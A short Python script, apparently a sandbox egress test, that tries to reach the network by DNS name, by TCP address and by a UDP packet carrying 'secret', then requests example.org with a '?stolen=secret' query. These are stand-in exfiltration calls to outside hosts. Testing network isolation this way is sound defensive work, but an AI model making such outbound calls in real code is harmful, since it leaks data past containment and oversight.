"""Tries to send something out: by name, by address, by a raw packet; then gives up."""
# ruff: noqa: T201 - a program prints

import socket
import urllib.request
from collections.abc import Callable

ATTEMPTS: dict[str, Callable[[], object]] = {
    "a name": lambda: socket.getaddrinfo("example.org", 443),
    "an address": lambda: socket.create_connection(("1.1.1.1", 53), timeout=3),
    "a packet": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("1.1.1.1", 53)),
}
for what, attempt in ATTEMPTS.items():
    try:
        attempt()
        print(f"GOT OUT by {what}", flush=True)
    except OSError as error:
        print(f"{what}: {error}", flush=True)
urllib.request.urlopen("https://example.org/?stolen=secret", timeout=3)
